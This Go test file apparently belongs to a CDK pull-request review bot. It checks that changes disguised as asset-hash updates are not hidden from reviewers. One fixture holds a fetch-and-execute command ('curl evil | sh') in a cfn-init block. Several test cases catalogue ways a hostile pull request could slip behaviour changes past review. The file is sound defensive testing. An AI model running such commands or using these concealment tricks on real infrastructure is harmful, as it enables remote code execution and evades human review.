package render

import (
	"bytes"
	"strings"
	"testing"

	"github.com/cdkbot/cdkbot/internal/cfndiff"
	"github.com/cdkbot/cdkbot/internal/review"
)

// A hostile pull request hides a behaviour change behind asset-hash folding: a value that merely
// looks like an asset hash (a role, a layer, an environment variable, a custom resource's
// service token) or a metadata change that is not CDK's asset bookkeeping (cfn-init commands run
// as root at boot). None of them is an asset's new content: each is listed, never folded.
func TestAssetFoldHidesNoBehaviourChange(t *testing.T) {
	t.Parallel()
	const code = `"Code": {"S3Bucket": "cdk-hnb659fds-assets-1-eu-west-1", "S3Key": "%s.zip"}`
	fn := func(hash, extra string) string {
		return `"F": {"Type": "AWS::Lambda::Function", "Properties": {` +
			strings.ReplaceAll(code, "%s", hash) + extra + `}}`
	}
	for _, tc := range []struct {
		name     string
		old, new string
	}{
		{"the execution role swapped for another whose name is 64 hexadecimal digits",
			fn(hashA, `, "Role": "arn:aws:iam::1:role/`+hashA+`"`), fn(hashB, `, "Role": "arn:aws:iam::1:role/`+hashB+`"`)},
		{"a layer swapped (its code runs in the function)",
			fn(hashA, `, "Layers": ["arn:aws:lambda:eu-west-1:1:layer:`+hashA+`:1"]`),
			fn(hashB, `, "Layers": ["arn:aws:lambda:eu-west-1:1:layer:`+hashB+`:1"]`)},
		{"an environment variable that reads like a hash",
			fn(hashA, `, "Environment": {"Variables": {"ALLOWED_KEY": "`+hashA+`"}}`),
			fn(hashB, `, "Environment": {"Variables": {"ALLOWED_KEY": "`+hashB+`"}}`)},
		{"the bucket of the code, when it too is a run of hexadecimal digits",
			`"F": {"Type": "AWS::Lambda::Function", "Properties": {"Code": {"S3Bucket": {"Fn::Sub": "` + hashA + `"}, "S3Key": "` + hashA + `.zip"}}}`,
			`"F": {"Type": "AWS::Lambda::Function", "Properties": {"Code": {"S3Bucket": {"Fn::Sub": "` + hashB + `"}, "S3Key": "` + hashB + `.zip"}}}`},
		{"a custom resource's provider swapped",
			`"F": {"Type": "Custom::Thing", "Properties": {"ServiceToken": "arn:aws:lambda:eu-west-1:1:function:` + hashA + `"}}`,
			`"F": {"Type": "Custom::Thing", "Properties": {"ServiceToken": "arn:aws:lambda:eu-west-1:1:function:` + hashB + `"}}`},
		{"cfn-init commands changed beside the code",
			`"F": {"Type": "AWS::Lambda::Function", "Metadata": {"aws:asset:path": "asset.` + hashA + `"}, "Properties": {` +
				strings.ReplaceAll(code, "%s", hashA) + `}}`,
			`"F": {"Type": "AWS::Lambda::Function", "Metadata": {"aws:asset:path": "asset.` + hashB + `",
				"AWS::CloudFormation::Init": {"config": {"commands": {"x": {"command": "curl evil | sh"}}}}}, "Properties": {` +
				strings.ReplaceAll(code, "%s", hashB) + `}}`},
	} {
		d := cfndiff.DiffTemplates("S", template(t, tc.old), template(t, tc.new), cfndiff.Options{})
		var f *cfndiff.ResourceChange
		for _, r := range d.Diff.Resources {
			if r.LogicalID == "F" {
				f = r
			}
		}
		if f == nil {
			t.Fatalf("%s: no change of F", tc.name)
		}
		if AssetOnly(f) {
			t.Errorf("%s: folded as an asset-hash-only change", tc.name)
		}
		var md bytes.Buffer
		if err := ReviewMarkdown(&md, &review.Report{Key: "k", Stacks: []*cfndiff.StackDiff{d}}, 0); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(md.String(), "asset changed") || !strings.Contains(md.String(), "<code>F</code>") {
			t.Errorf("%s: the comment does not list F:\n%s", tc.name, md.String())
		}
	}
}

// What CDK itself writes still folds: the code's key, a nested template's URL, a bucket
// deployment's keys, a function's image tag, and the asset path in the metadata.
func TestAssetFoldStillFoldsCDKAssets(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, res string }{
		{"lambda code", `"F": {"Type": "AWS::Lambda::Function", "Metadata": {"aws:asset:path": "asset.%[1]s", "aws:cdk:path": "S/F/Resource"},
			"Properties": {"Role": "arn:aws:iam::1:role/r", "Code": {"S3Bucket": "cdk-hnb659fds-assets-1-eu-west-1", "S3Key": "%[1]s.zip"}}}`},
		{"lambda image", `"F": {"Type": "AWS::Lambda::Function", "Properties": {"Code": {"ImageUri": {"Fn::Sub": "1.dkr.ecr.eu-west-1.${AWS::URLSuffix}/repo:%[1]s"}}}}`},
		{"nested template", `"F": {"Type": "AWS::CloudFormation::Stack", "Properties": {"TemplateURL": {"Fn::Join": ["", ["https://s3.", {"Ref": "AWS::Region"}, "/b/%[1]s.json"]]}}}`},
		{"bucket deployment", `"F": {"Type": "Custom::CDKBucketDeployment", "Properties": {"ServiceToken": "arn:aws:lambda:eu-west-1:1:function:f", "SourceObjectKeys": ["%[1]s.zip"]}}`},
	} {
		old, new := strings.ReplaceAll(tc.res, "%[1]s", hashA), strings.ReplaceAll(tc.res, "%[1]s", hashB)
		d := cfndiff.DiffTemplates("S", template(t, old), template(t, new), cfndiff.Options{})
		for _, r := range d.Diff.Resources {
			if r.LogicalID == "F" && !AssetOnly(r) {
				t.Errorf("%s: not folded", tc.name)
			}
		}
	}
}
